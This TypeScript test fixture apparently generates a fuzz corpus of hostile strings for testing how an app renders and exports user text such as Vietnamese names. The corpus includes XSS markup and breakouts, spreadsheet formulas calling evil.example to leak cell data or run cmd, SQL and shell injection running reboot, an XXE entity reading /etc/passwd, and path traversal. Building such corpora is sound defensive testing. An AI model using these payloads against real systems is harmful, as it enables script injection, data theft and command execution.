/** Where a string of markup would leave its trace: in a page none of these may be. */
export const traces =
  "[data-hostile], #hostile, .hostile, [onerror], [onload], [onclick], [onmouseover], base, object, embed";

const run = "window.hostile=1";

const elements = [
  "img",
  "svg",
  "iframe",
  "script",
  "video",
  "details",
  "input",
  "a",
  "style",
  "math",
  "form",
  "base",
  "object",
  "embed",
  "link",
  "meta",
];
const handlers = [
  `onerror=${run}`,
  `onload=${run}`,
  `onmouseover=${run} style=position:fixed;inset:0`,
  `autofocus onfocus=${run}`,
];
const markup = elements.flatMap((name) =>
  handlers.map((handler) => `<${name} data-hostile src=x href=javascript:${run} ${handler}>${name}</${name}>`),
);

/** Out of an attribute, a comment, a title, a script or a template that the text might stand in. */
const breakouts = [
  `"`,
  `'`,
  "`",
  "-->",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "]]>",
  "*/",
  "\\",
  "&quot;",
  "&#34;",
  "%22",
  "${",
  "{{",
];
const opened = [
  `<img data-hostile src=x onerror=${run}>`,
  `<script data-hostile>${run}</script>`,
  ` data-hostile onmouseover=${run} x=`,
  `;${run};//`,
];
const breaking = breakouts.flatMap((before) => opened.map((after) => `${before}>${after}`));

const links = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "data:text/html,",
  "vbscript:",
  "file:///",
  "//evil.example/",
  "https://evil.example/",
].flatMap((scheme) => [`${scheme}${run}`, `[bấm](${scheme}${run})`, `<a data-hostile href="${scheme}${run}">bấm</a>`]);

const formulas = ["=", "+", "-", "@", "\t=", "\n=", " =", "'=", "＝", "＋"].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}HYPERLINK("https://evil.example","bấm")`,
  `${sign}WEBSERVICE("https://evil.example/"&A1)`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}IMPORTXML("https://evil.example","//a")`,
]);

const messages = [
  "{0}",
  "{name}",
  "{name, plural, other {#}}",
  "{n, select, other {x}}",
  "{{name}}",
  "{",
  "}",
  "'{'",
  "#",
  "<b>{name}</b>",
  "%s",
  "%d%n",
  "$1",
  "$&",
  "$`",
  "${name}",
  "\\u003cimg\\u003e",
  "{__proto__}",
  "{constructor}",
  "<0>{name}</0>",
];

const keys = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
  "then",
  "length",
  "NaN",
  "undefined",
  "null",
  "true",
  "[object Object]",
  "-0",
  "1e309",
  "0x10",
  "Infinity",
];

const signs = [
  "\u202e",
  "\u202d",
  "\u2066",
  "\u200b",
  "\u200d",
  "\u00ad",
  "\ufeff",
  "\u0301",
  "\u0336",
  "\u2028",
  "\u2029",
  "\u0007",
  "\u001b[2J",
  "\u0085",
  "\ud83d\ude00",
  "\ud83d",
  "\ude00",
  "\ufffd",
  "\u0e49",
  "\ufdfd",
];
const unseen = signs.flatMap((sign) => [
  `Nguyễn${sign} Văn An`,
  `${sign}Nguyễn Văn An`,
  `Nguyễn Văn An${sign}`,
  `${sign}<img data-hostile src=x onerror=${run}>`,
]);

const paths = [
  "../../etc/passwd",
  "..\\..\\windows",
  "C:\\con",
  "\\\\evil.example\\share",
  "CON",
  "NUL.xlsx",
  "a/b:c*d?[e]",
  "'!A1",
  "'Đăng ký'!A1",
  "#REF!A1",
  "[1]Sheet!A1",
];
const queries = [
  "'; DROP TABLE nguoi; --",
  `" OR 1=1 --`,
  "$(reboot)",
  "`reboot`",
  "| reboot",
  "; reboot",
  "&& reboot",
  "%0d%0aSet-Cookie: a=b",
  "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
  "<!--#exec cmd='reboot'-->",
  "<?php system('reboot'); ?>",
  "<%= 1 %>",
];
const entities = [
  "&lt;img data-hostile&gt;",
  "&#60;img data-hostile src=x&#62;",
  "&#x3c;script data-hostile&#x3e;",
  "&amp;lt;b&amp;gt;",
  "%3Cimg data-hostile%3E",
  "\\x3cimg data-hostile\\x3e",
  "_x003C_img_x003E_",
  "＜img data-hostile＞",
  "<\u0000img data-hostile>",
  "<<img data-hostile>>",
  "< img data-hostile>",
  "<img/data-hostile/src=x>",
];

const special = [
  ...links,
  ...formulas,
  ...messages,
  ...keys,
  ...unseen,
  ...paths,
  ...queries,
  ...entities,
  ...markup,
  ...breaking,
];

/** Made longer than any name, so that what cuts texts is met as well. */
const long = special.map((text) => `${text} ${"Nguyễn ".repeat(40)}${text}`);

/** Five hundred texts that are after something: markup, scripts, formulas, messages, keys of objects, signs that nobody sees, paths. */
export const hostileStrings: readonly string[] = [...special, ...long].slice(0, 500);
